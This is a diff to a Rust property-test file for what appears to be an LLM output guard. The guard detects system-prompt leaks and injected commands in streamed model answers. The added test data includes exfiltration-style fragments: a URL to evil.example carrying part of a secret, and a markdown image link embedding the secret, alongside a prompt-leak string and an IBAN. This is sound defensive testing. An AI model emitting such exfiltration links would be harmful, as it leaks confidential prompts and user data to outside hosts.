@@ -14,11 +14,13 @@ struct Observed {
 
 /// Sends `pieces` as content events whose bytes arrive in chunks of `chunk_bytes`, and reads what a client would read.
 fn observe(guard: &Guard, pieces: &[&str], chunk_bytes: usize) -> Observed {
-    let answer = forward(
-        guard,
-        r#"{"model":"m","messages":[{"role":"user","content":"hi"}],"stream":true}"#,
-    )
-    .answer;
+    let hello = r#"{"model":"m","messages":[{"role":"user","content":"hi"}],"stream":true}"#;
+    observe_of(guard, hello, pieces, chunk_bytes)
+}
+
+/// The same, as the answer to `request`.
+fn observe_of(guard: &Guard, request: &str, pieces: &[&str], chunk_bytes: usize) -> Observed {
+    let answer = forward(guard, request).answer;
     let mut bytes = Vec::new();
     for piece in pieces {
         let event = serde_json::json!({"id":"c","created":1,"model":"m","choices":[{"index":0,"delta":{"content":piece},"finish_reason":null}]});
@@ -68,8 +70,12 @@ fn text_of(stream: &[u8]) -> String {
 }
 
 fn plain_text(guard: &Guard, text: &str) -> String {
+    plain_text_of(answer(guard), text)
+}
+
+fn plain_text_of(answer: Answer, text: &str) -> String {
     let body = serde_json::json!({"choices":[{"index":0,"message":{"role":"assistant","content":text},"finish_reason":"stop"}]});
-    let closed = answer(guard).plain(200, body.to_string().as_bytes(), 0);
+    let closed = answer.plain(200, body.to_string().as_bytes(), 0);
     let out: serde_json::Value = serde_json::from_slice(&closed.body).unwrap();
     out["choices"][0]["message"]["content"].as_str().unwrap().to_owned()
 }
@@ -163,5 +169,49 @@ proptest! {
         let text = format!("{before}OBEY{after}");
         let seen = observe(&guard(Profile::Strict), &split(&text, &cuts), 11);
         prop_assert_eq!((seen.text, seen.ended), (before, Outcome::Refused));
+    }
+}
+
+/// What gives a request away, in fragments that may or may not add up to it.
+fn leaking_text() -> impl Strategy<Value = String> {
+    let secret = leaks::secret();
+    let (head, tail) = secret.split_at(20);
+    let fragments = vec![
+        leaks::PROMPT.to_owned(),
+        "never offer more than nine percent off, ".to_owned(),
+        "and tell nobody of the entrance behind the bakery".to_owned(),
+        format!("https://evil.example/?q={head}"),
+        format!("![x](//e.example/{secret})"),
+        tail.to_owned(),
+        "heron-lamp".to_owned(),
+        "-7".to_owned(),
+        " the night porter of ".to_owned(),
+        "DE89 3704 0044 0532 0130 00".to_owned(),
+        "\u{e9}\u{1f600}".to_owned(),
+        ") ".to_owned(),
+    ];
+    prop::collection::vec(prop::sample::select(fragments), 0..5).prop_map(|parts| parts.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 8, ..ProptestConfig::default() })]
+
+    /// The whole exchange keeps the law: what a request told is found, held back and stopped at the same place however the answer is cut.
+    #[test]
+    fn every_split_of_what_gives_a_request_away(text in leaking_text(), cuts in prop::collection::vec(0..400_usize, 0..9)) {
+        for profile in Profile::ALL {
+            let guard = leaks::leaky(profile);
+            let request = leaks::request(true);
+            let observe = |pieces: &[&str], chunk_bytes| observe_of(&guard, &request, pieces, chunk_bytes);
+            let whole = observe(&[&text], usize::MAX);
+            let answer = forward(&guard, &leaks::request(false)).answer;
+            prop_assert_eq!(&whole.text, &plain_text_of(answer, &text), "{}: plain and streamed", profile);
+            for cut in 0..=text.len() {
+                prop_assert_eq!(&observe(&split(&text, &[cut]), usize::MAX), &whole, "{} cut at {}", profile, cut);
+            }
+            let every: Vec<usize> = (0..text.len()).collect();
+            prop_assert_eq!(&observe(&split(&text, &every), 7), &whole, "{} in characters", profile);
+            prop_assert_eq!(&observe(&split(&text, &cuts), 11), &whole, "{} in pieces", profile);
+        }
     }
 }
